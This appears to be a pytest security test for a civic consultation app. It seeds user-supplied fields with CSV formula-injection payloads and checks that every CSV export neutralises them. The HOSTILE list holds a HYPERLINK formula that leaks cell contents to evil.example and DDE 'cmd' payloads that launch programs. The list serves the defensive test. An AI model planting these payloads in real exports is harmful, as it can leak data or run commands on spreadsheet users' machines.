"""CSV formula injection: every CSV export of the routing table (found by its `.csv` path) is downloaded after
residents, officials and moderators wrote formula-looking text into everything those exports carry; no cell
may start a formula (`=`, `+`, `-`, `@`, tab, carriage return) unless it is a plain number (Polis votes are -1).
And no module but app/csv_export.py writes CSV itself, so a new export cannot skip the guard."""
from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from app.csv_export import FORMULA_START
from consultations.config import ConsultationSettings
from security_world import all_routes, report, session_for

ROOT = Path(__file__).resolve().parents[2]
NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")
HOSTILE = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-1+1+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 tab first",
    "\r=2+2 return first",
    "=1+1",
]
SEEDS = ["We need protected bike lanes on Main Street", "Bike lanes on Main Street would make cycling safe",
         "Please build more protected bike lanes", "Safer cycling needs separated bike lanes",
         "Bus fares are far too high for families", "Make bus tickets cheaper for students",
         "Lower bus fares so people leave the car at home", "Cheaper bus fares and more frequent buses",
         "Plant more trees along the streets for shade", "More trees and benches in the park",
         "Street trees keep the city cool in summer", "Plant trees on every street near schools"]


def _hostile_world(app, helpers, world):
    from sqlmodel import select

    from app.db import unit_of_work
    from consultations import dashboard_jobs, service
    from moderation import latest_analysis
    from moderation.facade import Decision
    from moderation.models import ModerationCase, ModerationItem
    from moderation.service import DecisionInput, decide_case
    from security_world import _petition

    state = app.state

    def uow():
        return unit_of_work(state.engine, state.unit_context)

    official = world.users["official_own"].id
    with uow() as session:
        for i, text in enumerate(HOSTILE):
            _petition(session, text[:80], "open", background=text, details=text, creator=text[:120],
                      department_id=world.department_id, email=f"hostile{i}@example.org")
    limits = ConsultationSettings(comment_rate_limit="100000/60", comment_ip_rate_limit="100000/60")
    comment_ids = []
    for i, text in enumerate(HOSTILE + [f"{s} {HOSTILE[i % len(HOSTILE)]}" for i, s in enumerate(SEEDS * 2)]):
        author = helpers.add_user(app, f"csv{i}@example.org", name=HOSTILE[i % len(HOSTILE)][:80])
        with uow() as session:
            comment_ids.append(service.post_comment(session, consultation_id=world.consultation, author_id=author.id,
                                                    body=text, limits=limits).id)
    for voter in ("resident", "moderator", "admin"):
        for cid in comment_ids[:5]:
            with uow() as session:
                service.cast_vote(session, comment_id=cid, user_id=world.users[voter].id,
                                  vote="disagree" if cid % 2 else "agree", limits=limits)
    # a moderator decides with a formula-looking note (the audit export)
    with uow() as session:
        case_id = session.exec(select(ModerationCase.id).join(ModerationItem, ModerationItem.id == ModerationCase.item_pk)
                               .where(ModerationItem.kind == "comment", ModerationItem.item_id == comment_ids[0],
                                      ModerationCase.state == "open")).first()
    assert case_id is not None
    with uow() as session:
        decide_case(session, case_id=case_id, moderator_id=world.users["moderator"].id,
                    data=DecisionInput(decision=Decision.APPROVE, reason_code="", note=HOSTILE[0]))
    # the analysis, then an official names its themes with formulas
    with uow() as session:
        dashboard_jobs.request_reanalysis(session, consultation_id=world.consultation, official_id=official)
    helpers.run_jobs(app)
    with uow() as session:
        analysis = latest_analysis(session, "consultation", world.consultation)
        themes = list(analysis.themes) if analysis is not None else []
    assert themes, "the analysis should have found themes"
    with uow() as session:
        for theme, label in zip(themes, HOSTILE):
            dashboard_jobs.rename_theme(session, consultation_id=world.consultation, theme_key=theme.key,
                                        label=label.strip()[:200], official_id=official)


def _unsafe_cells(text: str) -> list[str]:
    bad = []
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            if cell.startswith(FORMULA_START) and not NUMBER.fullmatch(cell):
                bad.append(cell[:60])
    return bad


def test_every_csv_export_neutralises_formulas(app, world, make_client, helpers):
    _hostile_world(app, helpers, world)
    exports = [r for r in all_routes(app) if r.method == "GET" and r.path.endswith(".csv")]
    assert len(exports) >= 5, [r.path for r in exports]
    values = {"consultation_id": world.consultation, "dataset": world.datasets[0], "day": world.snapshot_day}
    admin = session_for(make_client, app, helpers, "admin")
    official = session_for(make_client, app, helpers, "official_own")
    failures, rows, carried = [], 0, 0
    for route in exports:
        unknown = set(route.params) - set(values)
        assert not unknown, f"{route.path}: say which object to export for {unknown}"
        path = route.fill(values)
        client = official if route.path.startswith("/officials/") else admin
        response = client.get(path)
        assert response.status_code == 200, f"{path}: {response.status_code} {response.text[:200]}"
        assert "csv" in response.headers.get("content-type", ""), path
        text = response.content.decode("utf-8-sig")
        rows += text.count("\n")
        bad = _unsafe_cells(text)
        if bad:
            failures.append(f"{path}: cells that start a formula: {bad[:5]}")
        if "HYPERLINK" in text or "cmd|" in text:
            carried += 1
    report(f"CSV: {len(exports)} exports, {rows} rows, hostile text carried by {carried}, "
          f"{len(failures)} exports with formula cells")
    assert not failures, "\n".join(failures)
    assert carried >= 4, "the exports should carry the residents' (neutralised) text"


# Files written for programs, not people: kept verbatim on purpose.
NOT_EXPORTS = {
    "app/csv_export.py": "the guarded writer itself",
    "moderation/classifier/datasets.py": "training-data snapshots read back by the trainer (checksummed, verbatim)",
    "moderation/cli.py": "operator command over the operator's own input file",
    "moderation/analysis/cli.py": "operator command over the operator's own input file",
}


def test_no_module_writes_csv_but_the_guarded_writer():
    allowed = {ROOT / name for name in NOT_EXPORTS}
    offenders = []
    for package in ("app", "petitions", "consultations", "moderation"):
        for path in (ROOT / package).rglob("*.py"):
            if path in allowed:
                continue
            source = path.read_text(encoding="utf-8")
            if re.search(r"\bcsv\.(writer|DictWriter)\b|from csv import[^\n]*\b(writer|DictWriter)\b", source):
                offenders.append(str(path.relative_to(ROOT)))
    assert not offenders, f"write CSV through app/csv_export.py (it neutralises formulas): {offenders}"
